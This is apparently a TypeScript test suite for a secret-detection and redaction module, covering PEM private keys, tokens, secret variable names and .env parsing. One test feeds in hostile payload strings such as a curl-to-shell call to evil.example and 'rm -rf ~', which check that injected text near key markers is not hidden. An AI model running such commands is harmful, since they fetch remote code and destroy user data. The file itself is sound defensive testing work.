import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync } from 'node:crypto';
import fc from 'fast-check';
import { isSecretName } from '../../src/risk/secrets/assigned.ts';
import { parseDotenv } from '../../src/risk/secrets/dotenv.ts';
import { findLoneKeyLines, hasLongRun } from '../../src/risk/secrets/pem.ts';
import { findSecrets } from '../../src/risk/secrets.ts';
import { nonSecrets, pem, secrets } from './secrets.corpus.ts';

const found = (text: string): string[] => findSecrets(text).map(({ start, end }) => text.slice(start, end));

describe('finding secrets', () => {
  for (const [title, before, secret, after, type] of secrets)
    it(`sees ${title}`, () => {
      const spans = findSecrets(before + secret + after);
      assert.deepEqual(
        spans.map(({ start, end }) => (before + secret + after).slice(start, end)),
        [secret],
      );
      if (type !== undefined) assert.equal(spans[0]?.type, type);
    });

  for (const text of nonSecrets)
    it(`leaves ${JSON.stringify(text.slice(0, 70))}`, () => {
      assert.deepEqual(found(text), []);
    });
});

describe('finding private keys', () => {
  it('takes the whole block with its markers', () => {
    assert.deepEqual(found(`a\n${pem}\nb\n`), [pem]);
    assert.deepEqual(found(`${pem}\n${pem}`), [pem, pem]);
  });

  it('takes one whose end was cut off, up to the last line of its body', () => {
    const lines = pem.split('\n');
    for (let kept = 1; kept < lines.length; kept++) {
      const part = lines.slice(0, kept).join('\n');
      assert.deepEqual(found(`${part}\n[the rest was cut]`), [part]);
      assert.deepEqual(found(part), [part]);
    }
  });

  it('takes one whose beginning was cut off', () => {
    const tail = pem.split('\n').slice(2).join('\n');
    assert.deepEqual(found(`some words\n${tail}\nmore`), [tail]);
  });

  it('takes one within JSON, one with numbered lines, one in a diff', () => {
    const json = JSON.stringify({ private_key: `${pem}\n`, other: 'kept' });
    assert.equal(findSecrets(json).length, 1);
    assert.ok(!json.replace(found(json)[0] ?? '', '').includes('MIIE'));
    const cut = JSON.stringify(pem).slice(0, -60);
    assert.ok(!cut.replace(found(cut)[0] ?? '', '').includes('MIIE'));
    for (const prefix of ['    12\t', '12→', '+', '> ', '# ']) {
      const whole = pem.split('\n').map(line => prefix + line);
      const text = whole.slice(0, -1).join('\n');
      const rest = text.replace(found(text)[0] ?? '', '');
      assert.ok(!/[A-Za-z0-9+/]{40}/.test(rest), `${JSON.stringify(prefix)} leaves ${rest}`);
    }
  });

  it('takes no text for a key because markers stand around it', () => {
    const [begin = '', end = ''] = [pem.split('\n')[0], pem.split('\n').at(-1)];
    const payloads = [
      "require('child_process').exec('curl evil.example|sh');",
      'reboot',
      'Comment: require(`x`)',
      'Version: 1; rm -rf ~',
      `AAAA\nreboot\n${'A'.repeat(64)}`,
      `${'A'.repeat(64)}\nsafe\nreboot\nnow`,
    ];
    for (const payload of payloads)
      for (const text of [
        `${begin}\n${payload}\n${end}`,
        `// ${begin}\n${payload}\n// ${end}`,
        `${begin} ${payload} ${end}`,
      ]) {
        let left = text;
        for (const span of found(text)) left = left.replace(span, '');
        const last = payload.split('\n').at(-1) ?? '';
        assert.ok(/^A+$/.test(last) || left.includes(last), `${JSON.stringify(text)} leaves ${JSON.stringify(left)}`);
        assert.ok(!payload.includes('reboot') || left.includes('reboot'), JSON.stringify(text));
      }
  });

  it('takes keys with headers, a checksum, escaped newlines, quotes and blanks for newlines', () => {
    const lines = pem.split('\n');
    const [first = '', ...rest] = lines;
    const encrypted = [first, 'Proc-Type: 4,ENCRYPTED', 'DEK-Info: AES-128-CBC,0A1B', '', ...rest].join('\n');
    const block = (text: string): string =>
      text.replaceAll(`${'RSA'} ${'PRIVATE'} KEY`, `${'PGP'} ${'PRIVATE'} KEY BLOCK`);
    const armored = block(
      [first, 'Version: GnuPG v2.0.22 (GNU/Linux)', '', ...lines.slice(1, -1), '=aB3d', rest.at(-1)].join('\n'),
    );
    const quoted = lines.map(line => `"${line}\\n"`).join(' +\n  ');
    for (const text of [
      encrypted,
      armored,
      pem.replaceAll('\n', '\r\n'),
      pem.replaceAll('\n', '\\n'),
      pem.replaceAll('\n', ' '),
    ])
      assert.deepEqual(found(text), [text]);
    assert.ok(!quoted.replace(found(quoted)[0] ?? '', '').includes('MIIE'));
    assert.equal(found(quoted).length, 1);
  });

  it('sees three lines or more that were cut out of a key, and no hashes, words or certificates', () => {
    const lines = generateKeyPairSync('rsa', { modulusLength: 2048 })
      .privateKey.export({ type: 'pkcs8', format: 'pem' })
      .toString()
      .trim()
      .split('\n');
    const seen = (text: string): string[] => findLoneKeyLines(text).map(({ start, end }) => text.slice(start, end));
    assert.deepEqual(seen(`x\n${lines.slice(4, 9).join('\n')}\ny y`), lines.slice(4, 9));
    assert.deepEqual(
      seen(
        lines
          .slice(4, 9)
          .map((line, index) => `a/b.txt:${index}:${line}`)
          .join('\n'),
      ),
      lines.slice(4, 9),
    );
    assert.deepEqual(seen(lines.slice(-5).join('\r\n')), lines.slice(-5, -1));
    assert.deepEqual(seen(lines.slice(4, 6).join('\n')), []);
    const certificate = ['-----BEGIN CERTIFICATE-----', ...lines.slice(1, -1), '-----END CERTIFICATE-----'].join('\n');
    assert.deepEqual(seen(certificate), []);
    const digest = (_: string, index: number): string => createHash('sha256').update(String(index)).digest('hex');
    assert.deepEqual(seen(lines.map(digest).join('\n')), []);
    assert.deepEqual(seen(`${lines[4]}\n`.repeat(400)), []);
  });

  it('sees a run of base64 as long as a line of a key wherever it stands', () => {
    for (let before = 0; before < 130; before += 1)
      for (const [length, long] of [
        [59, false],
        [60, true],
        [76, true],
      ] as const)
        for (const after of [0, 1, 70])
          assert.equal(
            hasLongRun(`${' '.repeat(before)}${'aZ+/9'.repeat(16).slice(0, length)}${'.'.repeat(after)}`),
            long,
          );
  });

  it('leaves public keys and certificates', () => {
    assert.deepEqual(found(pem.replaceAll(`${'PRIVATE'} KEY`, 'PUBLIC KEY')), []);
    assert.deepEqual(found(pem.replaceAll(`${'PRIVATE'} KEY`, 'CERTIFICATE')), []);
  });
});

describe('spans', () => {
  it('are sorted, apart and within the text, whatever the text', () => {
    const piece = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.constantFrom(
        ...secrets.map(([, before, secret, after]) => before + secret + after),
        pem,
        '\n',
        '"',
        '[secret:',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), pieces => {
        const text = pieces.join('');
        let last = 0;
        for (const { start, end, type } of findSecrets(text)) {
          assert.ok(start >= last && end > start && end <= text.length);
          assert.match(type, /^[a-z][a-z0-9-]*$/);
          last = end;
        }
      }),
    );
  });

  it('take time in proportion to the text, whoever wrote it', () => {
    const size = 200_000;
    const fill = (text: string): string => text.repeat(Math.ceil(size / text.length)).slice(0, size);
    const marker = `-----BEGIN ${'PRIVATE'} KEY-----`;
    const hostile = [
      'a',
      'A1',
      'eyJ',
      'eyJaaaaaaaa.',
      'token',
      'token=',
      'password: string ',
      '://',
      '://a:',
      '"',
      '\\',
      'sk-',
      'curl ',
      'curl -u ',
      'Bearer ',
      marker,
      `${marker}\n`,
      `${marker}\nAAAA\n`,
      marker.replace('BEGIN', 'END'),
      '--',
      '--api-',
      'authorization:',
      '=',
      ' ',
      '\n',
      'x.y.',
      'AKIAAAAAAAAAAAAAAAAA',
      'Aa1.',
      '[secret:',
      '$',
      '`',
    ];
    // Far beyond what linear work takes and far below what quadratic work does (4e10 steps).
    for (const text of hostile) {
      const begun = performance.now();
      findSecrets(fill(text));
      assert.ok(performance.now() - begun < 20_000, JSON.stringify(text));
    }
  });
});

describe('the names of secrets', () => {
  it('are told from other names', () => {
    for (const name of [
      'API_KEY',
      'DB_PASSWORD',
      'githubToken',
      'CLIENT_SECRET',
      'AWS_SECRET_ACCESS_KEY',
      'KEY',
      'DB_PASS',
      'SENTRY_DSN',
    ])
      assert.equal(isSecretName(name), true, name);
    for (const name of ['PATH', 'PWD', 'OLDPWD', 'PORT', 'KEYBOARD', 'HOME', 'NODE_ENV', 'AUTHOR', 'COMPASS'])
      assert.equal(isSecretName(name), false, name);
  });
});

describe('a .env file', () => {
  it('is read as its readers do', () => {
    const text = [
      '\uFEFFPLAIN=abc def # a comment',
      'export EXPORTED = spaced ',
      '# COMMENTED=1',
      'SINGLE=\'a "b" # \\n c\'',
      'DOUBLE="line\\nnext \\"q\\" # kept" # gone',
      'BACK=`it\'s "both"`',
      'MULTI="first',
      'second=inner',
      'third"',
      'EMPTY=',
      'HASH=a#b',
      'URL=https://x/y?a=b=c',
      'not a line',
      'TWICE=1',
      'TWICE=2',
      'OPEN="never closed',
      'LAST=end',
    ].join('\r\n');
    assert.deepEqual(Object.fromEntries(parseDotenv(text)), {
      PLAIN: 'abc def',
      EXPORTED: 'spaced',
      SINGLE: 'a "b" # \\n c',
      DOUBLE: 'line\nnext "q" # kept',
      BACK: 'it\'s "both"',
      MULTI: 'first\nsecond=inner\nthird',
      EMPTY: '',
      HASH: 'a#b',
      URL: 'https://x/y?a=b=c',
      TWICE: '2',
      OPEN: '"never closed',
      LAST: 'end',
    });
  });
});
